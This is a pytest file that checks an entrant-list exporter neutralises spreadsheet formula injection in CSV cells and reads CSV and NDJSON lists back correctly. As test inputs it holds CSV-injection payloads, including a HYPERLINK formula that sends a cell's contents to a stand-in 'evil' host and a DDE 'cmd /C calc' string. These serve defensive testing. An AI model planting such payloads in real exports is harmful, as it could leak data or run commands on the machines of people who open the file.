"""The entrant list formats, pure: spreadsheet-safe CSV cells, reading lists back, JSON lines."""

from __future__ import annotations

import csv
import io
import json

import pytest

from listener.contests.export import (
    ENTRANTS_CSV,
    FORMULA_TRIGGERS,
    csv_cell,
    csv_text,
    read_entrants,
    read_entry_ids,
)
from listener.enrich.draw import LEGACY_ENTRANTS_FORMAT, Entrant

OWASP = ("=", "+", "-", "@", "\t", "\r")
"""The first characters OWASP's CSV-injection guidance names, and the contract repeats."""


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("", ""),
        ("plain", "plain"),
        ("#summerdrop @ana", "#summerdrop @ana"),
        ('=HYPERLINK("http://evil/?"&A1,"win")', '\'=HYPERLINK("http://evil/?"&A1,"win")'),
        ("+1 great", "'+1 great"),
        ("-2 meh", "'-2 meh"),
        ("-0.4215", "'-0.4215"),
        ("@ana first", "'@ana first"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\ncmd", "'\ncmd"),
        ("\0cmd", "'\0cmd"),
        ("   =1+2", "'   =1+2"),
        ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
        ("'already quoted", "''already quoted"),
        ("a=b", "a=b"),
        ("mid\n=line", "mid\n=line"),
        ("\u200f=rtl", "\u200f=rtl"),
        ("🎉=", "🎉="),
        ("17890000000000001", "17890000000000001"),
        ("https://www.instagram.com/p/Abc-_1/", "https://www.instagram.com/p/Abc-_1/"),
    ],
)
def test_csv_cell_escapes_what_a_spreadsheet_evaluates(text: str, cell: str) -> None:
    """A leading trigger (alone or after spaces) or quote gets one ' in front; nothing else."""
    assert csv_cell(text) == cell
    assert csv_text(cell) == text


@pytest.mark.parametrize("trigger", [*OWASP, "\n", "\0", "'"])
def test_no_cell_starts_with_a_trigger_and_every_cell_reads_back(trigger: str) -> None:
    """Every trigger, OWASP's and ours, is defused; csv_text undoes csv_cell exactly."""
    text = f"{trigger}cmd|' /C calc'!A0"
    cell = csv_cell(text)
    assert cell[0] not in FORMULA_TRIGGERS
    assert cell[0] == "'"
    assert csv_text(cell) == text
    assert set(OWASP) <= FORMULA_TRIGGERS


ROWS = [
    ("1", "17890000000000001", "https://www.instagram.com/p/A/", "zoe", '=1+2, "x"\nline 2'),
    ("2", "17890000000000002", "https://www.instagram.com/p/B/", "", "-5 @ana"),
    ("3", "17890000000000003", "=https://evil/", "@bo", "\u202eevil\u202c 🎉"),
]


def canonical(escaped: bool) -> bytes:
    """A canonical list of ROWS as either format writes it."""
    buffer = io.StringIO()
    if escaped:
        writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
        rows = [[n, i, csv_cell(p), csv_cell(u), csv_cell(c)] for n, i, p, u, c in ROWS]
    else:
        writer = csv.writer(buffer, lineterminator="\n")
        rows = [list(row) for row in ROWS]
    writer.writerow(["entry_number", "media_id", "permalink", "username", "caption"])
    writer.writerows(rows)
    return buffer.getvalue().encode()


@pytest.mark.parametrize(
    ("csv_format", "escaped"), [(ENTRANTS_CSV, True), ("entrants-csv/1", False)]
)
def test_read_entrants_gives_what_was_exported(csv_format: str, escaped: bool) -> None:
    """Both formats read back to the exported ids, permalinks and usernames, in entry order."""
    entrants = read_entrants(canonical(escaped), csv_format)
    assert entrants == [Entrant(i, p, u) for _, i, p, u, _ in ROWS]
    assert [e.verify_author for e in entrants] == [False, True, False]
    assert read_entry_ids(canonical(escaped)) == [i for _, i, *_ in ROWS]
    assert LEGACY_ENTRANTS_FORMAT == "entrants-csv/1"


@pytest.mark.parametrize(
    ("data", "csv_format", "message"),
    [
        (canonical(True), "entrants-csv/9", "unknown entrant list format 'entrants-csv/9'"),
        (b"entry_number,caption\n1,x\n", ENTRANTS_CSV, "not a entrants-csv/2 entrant list"),
        (b"\xff\xfe", ENTRANTS_CSV, "UnicodeDecodeError"),
    ],
)
def test_read_entrants_refuses_what_is_not_a_list(
    data: bytes, csv_format: str, message: str
) -> None:
    """An unknown format, missing columns or bytes that are not UTF-8 are one ValueError."""
    with pytest.raises(ValueError, match=message):
        read_entrants(data, csv_format)


def test_ndjson_ids_are_read_line_by_line_only_at_newlines() -> None:
    """U+2028, U+0085 and friends inside a caption do not split an NDJSON entry."""
    lines = [
        json.dumps(
            {"entry_number": n, "media_id": str(n), "caption": f"a{sep}b"}, ensure_ascii=False
        )
        for n, sep in enumerate(["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c"], start=1)
    ]
    assert read_entry_ids(("\n".join(lines) + "\n").encode()) == ["1", "2", "3", "4", "5", "6"]
